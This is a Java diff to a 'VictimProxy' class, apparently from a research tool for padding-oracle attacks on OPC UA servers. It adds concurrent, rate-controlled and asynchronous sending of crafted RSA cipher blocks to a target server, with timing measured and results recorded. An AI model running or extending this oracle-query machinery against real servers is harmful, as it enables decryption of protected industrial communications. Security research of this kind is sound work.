@@ -4,23 +4,48 @@ import attacks.CipherTextUtility;
 import opcua.context.Endpoint;
 import opcua.context.StaticConfig;
 import opcua.message.Message;
+import org.apache.log4j.Logger;
 import transport.MessageReceiver;
 import transport.TransportException;
+import transport.netty.NettyConnection;
+import transport.netty.NettyTransport;
+import transport.nio.NioClientConnection;
+import transport.nio.NioEventLoop;
+import transport.tcp.ConnectionPool;
 import transport.tcp.HighPrecisionTimingClientTcpConnection;
 import transport.tcp.TcpClientUtil;
 
 import java.io.IOException;
 import java.math.BigInteger;
+import java.nio.ByteBuffer;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.IdentityHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.CompletionException;
+import java.util.concurrent.Executor;
 
 /**
  * Servers as interface to the target server. Helps querying cipher blocks.
  */
 public class VictimProxy {
+    private static final Logger logger = Logger.getRootLogger();
+
     private final Endpoint endpoint;
-    private final byte[] ciphertext;
-    private final int blockOffset;
+    private final ProbeTemplate template;
     private final int blockSize;
     private final int blockNumber;
+    private ConnectionPool connectionPool;
+    private OracleMetrics metrics;
+    private QueryRecorder queryRecorder;
+    private RateController rateController;
+    private QueryScheduler queryScheduler;
+    private QueryScheduler.Priority priority = QueryScheduler.Priority.ATTACK;
+    private final Map<byte[], QueryScheduler.Priority> blockPriorities = Collections.synchronizedMap(new IdentityHashMap<>());
+    private NioEventLoop eventLoop;
+    private NettyTransport nettyTransport;
 
     /**
      * Constructor (assumes that the 0th cipher block is replace)
@@ -29,11 +54,7 @@ public class VictimProxy {
      * @throws IOException
      */
     public VictimProxy(Endpoint endpoint, byte[] ciphertext) throws IOException {
-        this.endpoint = endpoint;
-        this.ciphertext = ciphertext;
-        this.blockOffset = CipherTextUtility.getOpnBlockOffset(ciphertext, endpoint.getPublicKey());
-        this.blockNumber = 0;
-        this.blockSize = endpoint.getPublicKey().getModulus().bitLength() / 8;
+        this(endpoint, ciphertext, CipherTextUtility.getOpnBlockOffset(ciphertext, endpoint.getPublicKey()), 0);
     }
 
     /**
@@ -44,11 +65,7 @@ public class VictimProxy {
      * @throws IOException
      */
     public VictimProxy(Endpoint endpoint, byte[] ciphertext, int blockNumber) throws IOException {
-        this.endpoint = endpoint;
-        this.ciphertext = ciphertext;
-        this.blockOffset = CipherTextUtility.getOpnBlockOffset(ciphertext, endpoint.getPublicKey());
-        this.blockNumber = blockNumber;
-        this.blockSize = endpoint.getPublicKey().getModulus().bitLength() / 8;
+        this(endpoint, ciphertext, CipherTextUtility.getOpnBlockOffset(ciphertext, endpoint.getPublicKey()), blockNumber);
     }
 
     /**
@@ -60,40 +77,306 @@ public class VictimProxy {
      */
     public VictimProxy(Endpoint endpoint, byte[] ciphertext, int blockOffset, int blockNumber) {
         this.endpoint = endpoint;
-        this.ciphertext = ciphertext;
-        this.blockOffset = blockOffset;
         this.blockNumber = blockNumber;
         this.blockSize = endpoint.getPublicKey().getModulus().bitLength() / 8;
+        this.template = new ProbeTemplate(ciphertext, blockOffset, blockSize, blockNumber);
     }
 
     /**
-     * Inserts cipher block into valid ciphertext and queries target server
+     * Constructor for proxies that do not send the cipher blocks to a server, e.g. ReplayVictimProxy
+     * @param endpoint Endpoint whose public key determines the block size
+     * @param blockNumber Which cipher block is replaced
+     */
+    protected VictimProxy(Endpoint endpoint, int blockNumber) {
+        this.endpoint = endpoint;
+        this.template = null;
+        this.blockNumber = blockNumber;
+        this.blockSize = endpoint.getPublicKey().getModulus().bitLength() / 8;
+    }
+
+    /**
+     * Inserts cipher block into valid ciphertext and queries target server. The valid ciphertext is shared read-only
+     * by all queries (see ProbeTemplate), so this method may be called from several threads concurrently.
      * @param cipherBlock Cipher block to query
      * @return Response and response time
      * @throws OracleException
      */
     public QueryResult sendCipherBlock(byte[] cipherBlock) throws OracleException {
+        return sendCipherBlock(cipherBlock, QueryRecord.LABEL_UNKNOWN, false);
+    }
+
+    /**
+     * Like sendCipherBlock, but only receives the error code of the response and resets the connection right after,
+     * see MessageReceiver.receiveErrorCode. The response is an ErrorMessage without a reason, or null if the server did
+     * not respond with an error message.
+     * @param cipherBlock Cipher block to query
+     * @return Error code and response time
+     * @throws OracleException
+     */
+    public QueryResult sendCipherBlockHeaderOnly(byte[] cipherBlock) throws OracleException {
+        return sendCipherBlock(cipherBlock, QueryRecord.LABEL_UNKNOWN, true);
+    }
+
+    /**
+     * Queries the target server and records the result
+     * @param cipherBlock Cipher block to query
+     * @param label Whether the plaintext of the cipher block is known to be "<B", see QueryRecord
+     * @param headerOnly Whether only the error code of the response is received
+     * @return Response and response time
+     * @throws OracleException
+     */
+    private QueryResult sendCipherBlock(byte[] cipherBlock, byte label, boolean headerOnly) throws OracleException {
         if(cipherBlock.length != blockSize) {
             throw new IllegalArgumentException("Invalid block size");
         }
+        QueryResult queryResult;
+        try {
+            queryResult = query(cipherBlock, headerOnly);
+        } catch (OracleException e) {
+            if(metrics != null) {
+                metrics.recordFailure();
+            }
+            throw e;
+        }
+        record(cipherBlock, label, queryResult);
+        return queryResult;
+    }
+
+    private void record(byte[] cipherBlock, byte label, QueryResult queryResult) {
+        if(metrics != null) {
+            metrics.recordResponse(queryResult);
+        }
+        if(queryRecorder != null) {
+            queryRecorder.record(cipherBlock, blockNumber, label, queryResult);
+        }
+    }
 
-        CipherTextUtility.insertCipherBlock(ciphertext, cipherBlock, blockOffset, blockSize, blockNumber);
+    /**
+     * Inserts the cipher block into the valid ciphertext and sends it to the target server
+     * @param cipherBlock Cipher block to query, of the correct size
+     * @param headerOnly Whether only the error code of the response is received and the connection is reset afterwards
+     * @return Response and response time
+     * @throws OracleException
+     */
+    protected QueryResult query(byte[] cipherBlock, boolean headerOnly) throws OracleException {
+        ByteBuffer[] query = template.buffers(cipherBlock);
 
+        QueryScheduler queryScheduler = this.queryScheduler;
+        if(queryScheduler != null) {
+            queryScheduler.acquire(this, getPriority(cipherBlock));
+        }
         try {
-            HighPrecisionTimingClientTcpConnection timingConnection = new HighPrecisionTimingClientTcpConnection(endpoint.getHostName(), endpoint.getPort(), StaticConfig.TIMEOUT);
-            timingConnection.initialize();
-            TcpClientUtil.initializeTcpTransportConnection(timingConnection, endpoint);
+            return send(query, headerOnly);
+        } finally {
+            if(queryScheduler != null) {
+                queryScheduler.release(this);
+            }
+        }
+    }
 
-            long timing = timingConnection.timedSendData(ciphertext);
-            Message response = MessageReceiver.receiveMessage(timingConnection, endpoint.getMessageSecurityMode());
+    private QueryResult send(ByteBuffer[] query, boolean headerOnly) throws OracleException {
+        RateController rateController = this.rateController;
+        long ticket = rateController != null ? rateController.acquire() : 0;
+        HighPrecisionTimingClientTcpConnection timingConnection = null;
+        try {
+            long start = System.nanoTime();
+            timingConnection = connectionPool != null ? connectionPool.acquire() : openConnection();
+            long connectTime = System.nanoTime() - start;
 
-            timingConnection.close();
+            long timing = timingConnection.timedSendData(query);
+            Message response;
+            if(headerOnly) {
+                response = MessageReceiver.receiveErrorCode(timingConnection);
+                timingConnection.abort();
+            } else {
+                response = MessageReceiver.receiveMessage(timingConnection, endpoint.getMessageSecurityMode());
+                timingConnection.close();
+            }
 
-            return new QueryResult(response, timing);
+            if(rateController != null) {
+                rateController.release(ticket, RateController.Outcome.SUCCESS, timing);
+            }
+            return new QueryResult(response, timing, connectTime, timingConnection.getLastSendTime());
 
         } catch (TransportException e) {
+            abortQuietly(timingConnection);
+            if(rateController != null) {
+                rateController.release(ticket, RateController.classify(e), 0);
+            }
             throw new OracleException(e);
+        } catch (RuntimeException e) {
+            abortQuietly(timingConnection);
+            if(rateController != null) {
+                rateController.release(ticket, RateController.Outcome.FAILURE, 0);
+            }
+            throw e;
+        }
+    }
+
+    private HighPrecisionTimingClientTcpConnection openConnection() throws TransportException {
+        HighPrecisionTimingClientTcpConnection timingConnection = new HighPrecisionTimingClientTcpConnection(endpoint.getHostName(), endpoint.getPort(), StaticConfig.TIMEOUT);
+        timingConnection.initialize();
+        try {
+            TcpClientUtil.initializeTcpTransportConnection(timingConnection, endpoint);
+        } catch (TransportException | RuntimeException e) {
+            abortQuietly(timingConnection);
+            throw e;
         }
+        return timingConnection;
+    }
+
+    /**
+     * Resets the connection of a failed query, so that it is returned to the lifecycle manager
+     * @param timingConnection The connection, null if it was not established
+     */
+    private static void abortQuietly(HighPrecisionTimingClientTcpConnection timingConnection) {
+        if(timingConnection == null) {
+            return;
+        }
+        try {
+            timingConnection.abort();
+        } catch (TransportException e) {
+            logger.debug("Unable to abort connection: " + e.getMessage());
+        }
+    }
+
+    /**
+     * Queries the target server with a cipher block without blocking the caller
+     * @param cipherBlock Cipher block to query
+     * @param executor Executor that performs the query
+     * @return Future that completes with response and response time
+     */
+    public CompletableFuture<QueryResult> sendCipherBlockAsync(byte[] cipherBlock, Executor executor) {
+        return sendCipherBlockAsync(cipherBlock, QueryRecord.LABEL_UNKNOWN, false, executor);
+    }
+
+    /**
+     * Queries the target server with a cipher block without blocking the caller, see sendCipherBlockHeaderOnly
+     * @param cipherBlock Cipher block to query
+     * @param executor Executor that performs the query
+     * @return Future that completes with error code and response time
+     */
+    public CompletableFuture<QueryResult> sendCipherBlockHeaderOnlyAsync(byte[] cipherBlock, Executor executor) {
+        return sendCipherBlockAsync(cipherBlock, QueryRecord.LABEL_UNKNOWN, true, executor);
+    }
+
+    private CompletableFuture<QueryResult> sendCipherBlockAsync(byte[] cipherBlock, byte label, boolean headerOnly, Executor executor) {
+        NioEventLoop eventLoop = this.eventLoop;
+        NettyTransport nettyTransport = this.nettyTransport;
+        if((eventLoop == null && nettyTransport == null) || template == null) {
+            return CompletableFuture.supplyAsync(() -> {
+                try {
+                    return sendCipherBlock(cipherBlock, label, headerOnly);
+                } catch (OracleException e) {
+                    throw new CompletionException(e);
+                }
+            }, executor);
+        }
+        if(cipherBlock.length != blockSize) {
+            return CompletableFuture.failedFuture(new IllegalArgumentException("Invalid block size"));
+        }
+        ByteBuffer[] query = template.buffers(cipherBlock);
+
+        QueryScheduler queryScheduler = this.queryScheduler;
+        QueryScheduler.Priority priority = getPriority(cipherBlock);
+        RateController rateController = this.rateController;
+        // Only the admission, which may block, takes a thread of the executor
+        return CompletableFuture.supplyAsync(() -> {
+            try {
+                if(queryScheduler != null) {
+                    queryScheduler.acquire(this, priority);
+                }
+            } catch (OracleException e) {
+                throw new CompletionException(e);
+            }
+            try {
+                return rateController != null ? rateController.acquire() : 0L;
+            } catch (OracleException e) {
+                if(queryScheduler != null) {
+                    queryScheduler.release(this);
+                }
+                throw new CompletionException(e);
+            }
+        }, executor).thenCompose(ticket -> (nettyTransport != null
+                ? exchangeAsync(query, nettyTransport)
+                : exchangeAsync(query, headerOnly, eventLoop)).whenComplete((queryResult, e) -> {
+            if(rateController != null) {
+                if(e == null) {
+                    rateController.release(ticket, RateController.Outcome.SUCCESS, queryResult.getResponseTime());
+                } else {
+                    rateController.release(ticket, RateController.classify(e), 0);
+                }
+            }
+            if(queryScheduler != null) {
+                queryScheduler.release(this);
+            }
+        })).handleAsync((queryResult, e) -> {
+            if(e != null) {
+                if(metrics != null) {
+                    metrics.recordFailure();
+                }
+                Throwable cause = e instanceof CompletionException && e.getCause() != null ? e.getCause() : e;
+                throw new CompletionException(cause instanceof OracleException ? cause : new OracleException(cause));
+            }
+            record(cipherBlock, label, queryResult);
+            return queryResult;
+        }, executor);
+    }
+
+    /**
+     * Performs a whole query, from connecting to receiving the response, on the event loop. The probe is sent with a
+     * gathering write of its buffers.
+     */
+    private CompletableFuture<QueryResult> exchangeAsync(ByteBuffer[] query, boolean headerOnly, NioEventLoop eventLoop) {
+        NioClientConnection connection = new NioClientConnection(endpoint.getHostName(), endpoint.getPort(), StaticConfig.TIMEOUT, eventLoop);
+        long start = System.nanoTime();
+        return connection.initializeAsync()
+                .thenCompose(connected -> TcpClientUtil.initializeTcpTransportConnectionAsync(connection, endpoint))
+                .thenCompose(transportContext -> {
+                    long connectTime = System.nanoTime() - start;
+                    long sendStart = System.nanoTime();
+                    return connection.sendDataAsync(query).thenCompose(sent -> {
+                        long sendTime = System.nanoTime() - sendStart;
+                        CompletableFuture<? extends Message> response = headerOnly
+                                ? MessageReceiver.receiveErrorCodeAsync(connection)
+                                : MessageReceiver.receiveMessageAsync(connection, endpoint.getMessageSecurityMode());
+                        return response.thenApply(message -> new QueryResult(message, connection.getLastResponseTime(), connectTime, sendTime));
+                    });
+                })
+                .whenComplete((queryResult, e) -> {
+                    if(headerOnly || e != null) {
+                        connection.abortAsync();
+                    } else {
+                        connection.closeAsync();
+                    }
+                });
+    }
+
+    /**
+     * Performs a whole query over a Netty connection. The buffers of the probe are written as one composite buffer.
+     * The pipeline always decodes the whole response, so header only queries read the complete error message.
+     */
+    private CompletableFuture<QueryResult> exchangeAsync(ByteBuffer[] query, NettyTransport nettyTransport) {
+        NettyConnection connection = new NettyConnection(endpoint.getHostName(), endpoint.getPort(), StaticConfig.TIMEOUT, endpoint.getMessageSecurityMode(), nettyTransport);
+        long start = System.nanoTime();
+        return connection.initializeAsync()
+                .thenCompose(connected -> TcpClientUtil.initializeTcpTransportConnectionAsync(connection, endpoint))
+                .thenCompose(transportContext -> {
+                    long connectTime = System.nanoTime() - start;
+                    long sendStart = System.nanoTime();
+                    return connection.sendDataAsync(query).thenCompose(sent -> {
+                        long sendTime = System.nanoTime() - sendStart;
+                        return connection.receiveMessageAsync()
+                                .thenApply(message -> new QueryResult(message, connection.getLastResponseTime(), connectTime, sendTime));
+                    });
+                })
+                .whenComplete((queryResult, e) -> {
+                    if(e != null) {
+                        connection.abortAsync();
+                    } else {
+                        connection.closeAsync();
+                    }
+                });
     }
 
     /**
@@ -103,6 +386,30 @@ public class VictimProxy {
      * @throws OracleException
      */
     public QueryResult sendEncryptedPlainBlock(byte[] plainBlock) throws OracleException {
+        return sendCipherBlock(encryptPlainBlock(plainBlock), QueryRecord.label(plainBlock), false);
+    }
+
+    /**
+     * Encrypts several plaintext blocks and queries the target server with the resulting cipher blocks concurrently
+     * @param plainBlocks Plaintext blocks to encrypt and query
+     * @param executor Executor that performs the queries
+     * @return Responses and response times, in the order of plainBlocks
+     * @throws OracleException
+     */
+    public List<QueryResult> sendEncryptedPlainBlocks(List<byte[]> plainBlocks, Executor executor) throws OracleException {
+        List<CompletableFuture<QueryResult>> futures = new ArrayList<>(plainBlocks.size());
+        for(byte[] plainBlock : plainBlocks) {
+            futures.add(sendCipherBlockAsync(encryptPlainBlock(plainBlock), QueryRecord.label(plainBlock), false, executor));
+        }
+        return Oracle.joinAll(futures);
+    }
+
+    /**
+     * Encrypts a plaintext block with the public key of the endpoint
+     * @param plainBlock Plaintext block of the block size
+     * @return The cipher block
+     */
+    public byte[] encryptPlainBlock(byte[] plainBlock) {
         if(plainBlock.length != blockSize) {
             throw new IllegalArgumentException("Invalid block size");
         }
@@ -118,8 +425,7 @@ public class VictimProxy {
         if(c.length < blockSize) {
             System.arraycopy(c, 0, cipherBlock, blockSize-c.length, c.length);
         }
-
-        return sendCipherBlock(cipherBlock);
+        return cipherBlock;
     }
 
 
@@ -127,19 +433,40 @@ public class VictimProxy {
     public class QueryResult {
         private final Message response;
         private final long responseTime;
+        private final long connectTime;
+        private final long sendTime;
 
-        QueryResult(Message response, long responseTime) {
+        QueryResult(Message response, long responseTime, long connectTime, long sendTime) {
             this.response = response;
             this.responseTime = responseTime;
+            this.connectTime = connectTime;
+            this.sendTime = sendTime;
         }
 
         public Message getResponse() {
             return response;
         }
 
+        /**
+         * Returns the time in nanoseconds until the first byte of the response was received
+         */
         public long getResponseTime() {
             return responseTime;
         }
+
+        /**
+         * Returns the time in nanoseconds it took to acquire or establish the connection
+         */
+        public long getConnectTime() {
+            return connectTime;
+        }
+
+        /**
+         * Returns the time in nanoseconds it took to write the request
+         */
+        public long getSendTime() {
+            return sendTime;
+        }
     }
 
 
@@ -148,7 +475,150 @@ public class VictimProxy {
         return blockSize;
     }
 
+    public int getBlockNumber() {
+        return blockNumber;
+    }
+
     public Endpoint getEndpoint() {
         return endpoint;
     }
+
+    public ConnectionPool getConnectionPool() {
+        return connectionPool;
+    }
+
+    /**
+     * Sets a pool of pre-established connections to use for queries. If no pool is set, a new connection is
+     * established for every query.
+     */
+    public void setConnectionPool(ConnectionPool connectionPool) {
+        this.connectionPool = connectionPool;
+    }
+
+    public OracleMetrics getMetrics() {
+        return metrics;
+    }
+
+    public RateController getRateController() {
+        return rateController;
+    }
+
+    /**
+     * Sets a controller that paces the queries of this proxy, or null to send them as fast as possible. Proxies of the
+     * same endpoint should share a controller, see RateController.forEndpoint.
+     */
+    public void setRateController(RateController rateController) {
+        this.rateController = rateController;
+    }
+
+    public QueryScheduler getQueryScheduler() {
+        return queryScheduler;
+    }
+
+    public QueryScheduler.Priority getPriority() {
+        return priority;
+    }
+
+    /**
+     * Returns the priority the queries of a cipher block are scheduled with
+     */
+    public QueryScheduler.Priority getPriority(byte[] cipherBlock) {
+        QueryScheduler.Priority blockPriority = blockPriorities.get(cipherBlock);
+        return blockPriority != null ? blockPriority : priority;
+    }
+
+    /**
+     * Schedules the queries of a single cipher block with a different priority than the other queries of this proxy,
+     * e.g. control probes that must not delay the attack. The cipher block is identified by the array instance, not by
+     * its content. Every call must be followed by a call of clearPriority once the cipher block is decided.
+     * @param cipherBlock The cipher block
+     * @param priority Priority of its queries
+     */
+    public void setPriority(byte[] cipherBlock, QueryScheduler.Priority priority) {
+        blockPriorities.put(cipherBlock, priority);
+    }
+
+    /**
+     * Schedules the queries of a cipher block with the priority of this proxy again, see setPriority
+     * @param cipherBlock The cipher block
+     */
+    public void clearPriority(byte[] cipherBlock) {
+        blockPriorities.remove(cipherBlock);
+    }
+
+    /**
+     * Sets a scheduler that coordinates the queries of this proxy with those of other proxies of the same endpoint, or
+     * null to send them unscheduled. Proxies of the same endpoint should share a scheduler, see
+     * QueryScheduler.forEndpoint.
+     * @param queryScheduler The scheduler
+     * @param priority Priority of the queries of this proxy
+     */
+    public void setQueryScheduler(QueryScheduler queryScheduler, QueryScheduler.Priority priority) {
+        this.queryScheduler = queryScheduler;
+        this.priority = priority;
+    }
+
+    /**
+     * Claims the endpoint exclusively for the queries of this proxy, e.g. while response times are sampled. Does nothing
+     * if no scheduler is set. Every call must be followed by a call of endExclusive.
+     * @throws OracleException
+     */
+    public void beginExclusive() throws OracleException {
+        if(queryScheduler != null) {
+            queryScheduler.beginExclusive(this);
+        }
+    }
+
+    /**
+     * Releases the exclusive claim of beginExclusive
+     */
+    public void endExclusive() {
+        if(queryScheduler != null) {
+            queryScheduler.endExclusive(this);
+        }
+    }
+
+    public NioEventLoop getEventLoop() {
+        return eventLoop;
+    }
+
+    /**
+     * Sets an event loop that performs the asynchronous queries of this proxy with non-blocking connections, so that
+     * many queries can be in flight without a thread each, or null to perform them on the executor. Synchronous queries
+     * and the connection pool are not affected. The response times are less precise than those of synchronous queries.
+     */
+    public void setEventLoop(NioEventLoop eventLoop) {
+        this.eventLoop = eventLoop;
+    }
+
+    public NettyTransport getNettyTransport() {
+        return nettyTransport;
+    }
+
+    /**
+     * Sets a Netty transport that performs the asynchronous queries of this proxy instead of the event loop, or null to
+     * use the event loop. Synchronous queries and the connection pool are not affected.
+     */
+    public void setNettyTransport(NettyTransport nettyTransport) {
+        this.nettyTransport = nettyTransport;
+    }
+
+    public QueryRecorder getQueryRecorder() {
+        return queryRecorder;
+    }
+
+    /**
+     * Sets a recorder that logs every query and its result, or null to stop recording
+     */
+    public void setQueryRecorder(QueryRecorder queryRecorder) {
+        this.queryRecorder = queryRecorder;
+    }
+
+    /**
+     * Sets the metrics that every response and failed request is recorded into. Oracles set their own metrics when
+     * the proxy is assigned to them.
+     */
+    public void setMetrics(OracleMetrics metrics) {
+        this.metrics = metrics;
+    }
 }